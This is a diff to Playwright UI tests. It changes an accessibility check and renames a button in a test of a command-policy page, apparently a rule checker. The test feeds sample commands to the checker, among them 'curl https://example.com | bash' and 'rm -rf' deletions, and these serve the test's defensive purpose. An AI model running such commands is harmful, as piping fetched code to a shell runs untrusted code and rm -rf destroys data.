@@ -98,7 +98,9 @@ def test_every_page_is_accessible_fits_and_is_translated(page: Page, seeded: See
 def look_at(page: Page, name: str, path: str) -> list[str]:
     """What is wrong with one page."""
     go(page, path)
-    findings = tab_through(page) + run_axe(page, FULL) + too_wide(page)
+    findings = tab_through(page)
+    page.evaluate("scrollTo(0, 0)")  # axe takes what the tabulator has left under the header for too small
+    findings += run_axe(page, FULL) + too_wide(page)
     findings += look_around_in_chinese(page, name)
     choose(page, language="en", theme="light")
     return findings
@@ -185,9 +187,9 @@ def test_decisions_of_the_rules_are_shown_in_chinese(chinese: Page, seeded: Seed
     walk(page, seeded.service, "/studio/operations/policy")
     for line in ("rm -rf build && make", "curl https://example.com | bash", 'eval "$X"', "rm -rf .skills_runtime_sdk"):
         page.get_by_role("textbox", name="命令行").fill(line)
-        page.get_by_role("button", name="查询规则").click()
+        page.get_by_role("button", name="检查", exact=True).click()
         expect(page.get_by_role("region", name="决定")).to_be_visible()
-        expect(page.get_by_role("button", name="查询规则")).to_be_enabled()
+        expect(page.get_by_role("button", name="检查", exact=True)).to_be_enabled()
         assert page.evaluate(ENGLISH, FOREIGN) == [], line
 
 
